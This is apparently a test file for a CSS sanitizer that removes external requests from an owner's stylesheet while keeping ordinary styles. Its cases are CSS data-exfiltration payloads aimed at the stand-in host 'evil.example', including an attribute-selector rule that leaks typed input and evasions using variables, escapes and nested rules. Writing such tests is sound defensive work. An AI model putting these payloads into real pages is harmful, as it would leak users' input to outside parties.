import { expect } from '@esm-bundle/chai';
import { safeStylesheet } from '../../core/platform/browser/stylesheet.ts';

/** Tests of the sanitizing of an owner's stylesheet: styles stay, external requests are removed. */

const OWN = 'https://shop.example/style/main.css';
const safe = (text: string) =>
  safeStylesheet(text, OWN, ['https://shop.example', 'https://api.example']);

for (const [what, text] of [
  ['a picture', '.a { background-image: url(https://evil.example/?leak) }'],
  ['a picture by a shorthand', '.a { background: red url("//evil.example/x") no-repeat }'],
  ['a picture beside a variable', '.a { background: var(--tint) url(https://evil.example/x) }'],
  ['a picture behind a variable', '.a { --x: url(https://evil.example/x); background: var(--x) }'],
  [
    'a picture behind an escape',
    '.a { --x: \\75 rl(https://evil.example/x); background: var(--x) }',
  ],
  ['a picture set', '.a { background-image: image-set("https://evil.example/x" 1x) }'],
  [
    'a picture set behind a variable',
    '.a { --x: image-set("https://evil.example/x" 1x); background: var(--x) }',
  ],
  ['what a person types', 'input[value^="a"] { background: url(https://evil.example/a) }'],
  ['a font', '@font-face { font-family: x; src: url(https://evil.example/x.woff2) }'],
  ['a cursor', '.a { cursor: url(https://evil.example/x), auto }'],
  ['a filter', '.a { filter: url(https://evil.example/x#f) }'],
  ['another sheet', '@import url(https://evil.example/x.css);'],
  [
    'a rule within rules',
    '@media all { @supports (color: red) { .a { .b & { list-style: url(https://evil.example/x) } } } }',
  ],
  ['a frame of a movement', '@keyframes k { to { background: url(https://evil.example/x) } }'],
  [
    'the first value of a variable',
    '@property --x { syntax: "<url>"; inherits: false; initial-value: url(https://evil.example/x) }',
  ],
  [
    'the result of a function',
    '@function --f() { result: url(https://evil.example/x) } .a { background: --f() }',
  ],
  ['a value of a position', '@position-try --p { margin: url(https://evil.example/x) }'],
  ['a page that is printed', '@page { background: url(https://evil.example/x) }'],
  ['an address that goes up and out', '.a { background: url(\\2f/evil.example/x) }'],
] as const) {
  it(`fetches nothing from elsewhere: ${what}`, () => {
    expect(safe(`${text} .kept { color: red }`)).to.not.contain('evil.example');
    expect(safe(`.kept { color: red } ${text.startsWith('@import') ? '' : text}`)).to.contain(
      '.kept { color: red; }',
    );
  });
}

it('keeps everything else, pictures of its own and of the API among them', () => {
  const text = [
    '.a { color: var(--psn-primary); border: 1px solid var(--line); background: url("paper.png"); }',
    '.b { background-image: url("https://api.example/x.png"); content: "“"; }',
    '.c { background-image: url("data:image/png;base64,AAAA"); }',
    '@media (max-width: 30em) {\n  .d { color: red; }\n}',
    '@supports (color: red) { .e { color: red } }',
    '@layer base { .f { color: red } }',
    '@keyframes turn { to { rotate: 1turn } }',
  ].join('\n');
  const kept = safe(text);
  for (const part of [
    'color: var(--psn-primary)',
    '1px solid var(--line)',
    'paper.png',
    'https://api.example/x.png',
    'data:image/png',
    '“',
    'max-width: 30em',
    '.d { color: red; }',
    '.e { color: red; }',
    '.f { color: red; }',
    'rotate: 1turn',
  ])
    expect(kept).to.contain(part);
});
